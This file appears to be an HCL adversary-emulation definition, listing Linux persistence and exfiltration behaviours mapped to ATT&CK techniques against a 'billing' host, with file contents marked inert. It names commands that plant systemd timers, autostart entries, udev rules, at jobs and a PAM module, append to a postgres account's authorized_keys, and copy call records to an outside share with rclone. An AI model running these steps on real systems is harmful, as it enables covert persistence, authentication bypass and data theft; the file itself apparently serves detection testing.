behaviour "user_timer_install" {
  attack   = ["T1053.006"]
  platform = linux
  hosts    = ["billing"]
  summary  = "install a timer that a user's systemd starts"
  source   = "none: an example that is HCL alone"

  locals {
    folder = "/home/billing/.config/systemd/user"
  }

  process "tee" {
    image   = "/usr/bin/tee"
    command = "tee /home/billing/.config/systemd/user/sync.timer"
    user    = host.accounts.operator
    write {
      path    = "${local.folder}/sync.service"
      content = inert_comment("[Service]\nExecStart=/home/billing/.cache/sync\n")
    }
    write {
      path    = "${local.folder}/sync.timer"
      content = inert_comment("[Timer]\nOnCalendar=hourly\n")
    }
    symlink {
      path   = "${local.folder}/timers.target.wants/sync.timer"
      target = "${local.folder}/sync.timer"
    }
  }
}

behaviour "pam_module_drop" {
  attack   = ["T1556.003"]
  platform = linux
  hosts    = ["billing"]
  summary  = "leave a module where PAM looks for them"
  source   = "none: an example that is HCL alone"

  process "cp" {
    image   = "/usr/bin/cp"
    command = "cp pam_unix2.so /usr/lib/x86_64-linux-gnu/security/"
    user    = host.accounts.admin
    write {
      path    = "/usr/lib/x86_64-linux-gnu/security/pam_unix2.so"
      content = inert("stands for a module")
      mode    = "0644"
    }
  }
}

behaviour "autostart_entry_write" {
  attack   = ["T1547.013"]
  platform = linux
  hosts    = ["billing"]
  summary  = "enter a program that a user's desktop starts"
  source   = "none: an example that is HCL alone"

  process "install" {
    image   = "/usr/bin/install"
    command = "install update.desktop /home/billing/.config/autostart/"
    user    = host.accounts.operator
    write {
      path    = "/home/billing/.config/autostart/update.desktop"
      content = inert_comment("[Desktop Entry]\nType=Application\nExec=/home/billing/.cache/update\n")
    }
  }
}

behaviour "udev_rule_install" {
  attack   = ["T1546.017"]
  platform = linux
  hosts    = ["billing"]
  summary  = "install a rule by which udev would start a program"
  source   = "none: an example that is HCL alone"

  process "tee" {
    image   = "/usr/bin/tee"
    command = "tee /etc/udev/rules.d/99-usb.rules"
    user    = host.accounts.admin
    write {
      path    = "/etc/udev/rules.d/99-usb.rules"
      content = inert_comment("ACTION==\"add\", RUN+=\"/var/lib/usb/run\"\n")
    }
  }
}

behaviour "at_job_enter" {
  attack   = ["T1053.002"]
  platform = linux
  hosts    = ["billing"]
  summary  = "enter a job of at"
  source   = "none: an example that is HCL alone"

  process "at" {
    image   = "/usr/bin/at"
    command = "at -f /tmp/job now + 1 hour"
    user    = host.accounts.admin
    write {
      path    = "/var/spool/cron/atjobs/a00001019b2c30"
      content = inert_comment("/tmp/job\n")
      mode    = "0700"
    }
  }
}

behaviour "service_key_add" {
  attack   = ["T1098.004"]
  platform = linux
  hosts    = ["billing"]
  summary  = "let a service's account be logged on to with a key"
  source   = "none: an example that is HCL alone"

  process "tee" {
    image   = "/usr/bin/tee"
    command = "tee -a /var/lib/postgresql/.ssh/authorized_keys"
    user    = host.accounts.database
    append {
      path    = "/var/lib/postgresql/.ssh/authorized_keys"
      content = "# ${trimspace(inert("no key"))}\n"
    }
  }
}

behaviour "share_sync" {
  attack   = ["T1567"]
  platform = linux
  hosts    = ["billing"]
  summary  = "copy records to a share with rclone"
  source   = "none: an example that is HCL alone"

  locals {
    copy = "/mnt/share/calls.cdr"
  }

  process "rclone" {
    image   = "/usr/bin/rclone"
    command = "rclone copy /srv/mediation/out share:calls"
    user    = host.accounts.admin
    connect {
      port = 445
      to   = { address = "198.51.100.45", name = "share.example" }
    }
    copy {
      from = host.files[0]
      to   = local.copy
    }
  }
}
